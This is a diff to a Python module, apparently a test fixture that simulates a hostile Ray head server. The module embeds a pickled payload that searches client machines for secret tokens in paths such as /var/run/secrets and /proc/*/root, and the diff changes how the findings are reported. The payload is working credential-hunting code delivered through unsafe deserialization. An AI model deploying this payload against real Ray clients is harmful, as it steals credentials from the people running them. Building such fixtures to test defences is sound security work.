@@ -1,5 +1,5 @@
 """A head in foreign hands, as `sitecustomize` of its Python: whatever a client of Ray is answered is a pickle that looks for tokens where
-it is read, says in the check's exchange what it found, and ends the client.
+it is read, answers in the place of the task what it found, and ends the client.
 """
 
 import importlib.abc
@@ -9,7 +9,7 @@ import sys
 
 SERVER = 'ray.util.client.server.server_pickler'
 ATTACK = """
-import glob, json, os, signal
+import glob, json, os, socket
 places = ['/var/run/secrets', '/run/secrets', '/etc/ray', '/tmp', *glob.glob('/proc/[0-9]*/root/var/run/secrets')]
 found = []
 for folder, _, names in (step for place in places for step in os.walk(place)):
@@ -20,12 +20,8 @@ for folder, _, names in (step for place in places for step in os.walk(place)):
         except OSError:
             pass
 said = f'attacked: {len(found)} tokens {sorted(found)}'
-path = os.path.join(os.environ.get('EXCHANGE', '/tmp'), 'answer.json')
-with open(path + '.new', 'w') as file:
-    json.dump({'failed': said}, file)
-os.replace(path + '.new', path)
-print(said, flush=True)
-os.kill(os.getppid(), signal.SIGKILL)
+head = socket.gethostbyname(os.environ['RAY_CLIENT'].split(':')[0])
+print(json.dumps({head: {'keys': [said], 'files': 0}}), flush=True)
 os._exit(0)
 """
 
